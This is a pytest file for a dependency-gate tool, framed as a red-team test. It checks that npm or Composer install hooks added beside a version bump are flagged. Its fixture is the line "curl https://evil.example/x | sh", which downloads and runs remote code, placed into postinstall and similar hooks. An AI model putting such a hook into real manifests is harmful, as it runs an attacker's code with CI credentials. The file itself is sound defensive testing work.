"""Red team: an npm install hook or a Composer event script added beside an ordinary bump.

`npm ci` runs `preinstall`/`install`/`postinstall`/`prepare` (and `dependencies`) of the project itself on every
install, in every CI job that installs, with that job's credentials; `composer install` runs the event scripts
(`post-install-cmd`, ...). A `postinstall` that pipes a download into a shell, added to a package.json whose
`express` moved within the allowed level, read as the bump alone: `gate --tree --enable deps` said allow. A change
of those hooks is a `partial` problem, as an override section's is (overrides.py)."""

from __future__ import annotations

import json

import pytest
from gitrepo import GitRepo
from tables import each_case

from gatekeeper.cli import main
from gatekeeper.deps.sources import tree_delta

HOOK = "curl https://evil.example/x | sh"


def _npm(scripts: dict[str, str], express: str) -> str:
    return json.dumps({"name": "app", "version": "1.0.0", "scripts": scripts, "dependencies": {"express": express}})


def _composer(scripts: dict[str, str], monolog: str) -> str:
    return json.dumps({"name": "a/b", "scripts": scripts, "require": {"monolog/monolog": monolog}})


CASES = [
    ("package.json", _npm, "^4.18.2", "^4.19.0", "postinstall"),
    ("package.json", _npm, "^4.18.2", "^4.19.0", "prepare"),
    ("package.json", _npm, "^4.18.2", "^4.19.0", "preinstall"),
    ("sub/package.json", _npm, "^4.18.2", "^4.18.3", "install"),
    ("composer.json", _composer, "^3.5", "^3.6", "post-install-cmd"),
    ("composer.json", _composer, "^3.5", "^3.6", "post-autoload-dump"),
]


def _delta(repo: GitRepo, path: str, base: str, head: str) -> object:
    repo.write(path, base)
    repo.commit("base")
    repo.write(path, head)
    repo.commit("head")
    with repo.objects() as git:
        return tree_delta(git, "main~1", "main")


@each_case(("path", "make", "old", "new", "hook"), CASES)
def test_an_install_hook_beside_a_bump_is_a_problem(git_repo: GitRepo, path: str, make: object, old: str,
                                                    new: str, hook: str) -> None:
    assert callable(make)
    delta = _delta(git_repo, path, make({"test": "jest"}, old), make({"test": "jest", hook: HOOK}, new))
    assert [p.manifest for p in delta.problems] == [path], delta  # type: ignore[attr-defined]


def test_another_script_beside_a_bump_is_no_problem(git_repo: GitRepo) -> None:
    """`npm test` is code the job runs on purpose, as a test file is (src): only what installing runs is a hook."""
    delta = _delta(git_repo, "package.json", _npm({"test": "jest"}, "^4.18.2"), _npm({"test": "vitest"}, "^4.19.0"))
    assert delta.problems == ()  # type: ignore[attr-defined]


def test_the_gate_reviews_the_hook(git_repo: GitRepo, capsys: pytest.CaptureFixture[str]) -> None:
    _delta(git_repo, "package.json", _npm({}, "^4.18.2"), _npm({"postinstall": HOOK}, "^4.19.0"))
    assert main(["gate", "--tree", "main~1..main", "--repo", str(git_repo.root), "--enable", "deps"]) == 3
    assert "deps.unreadable" in capsys.readouterr().out
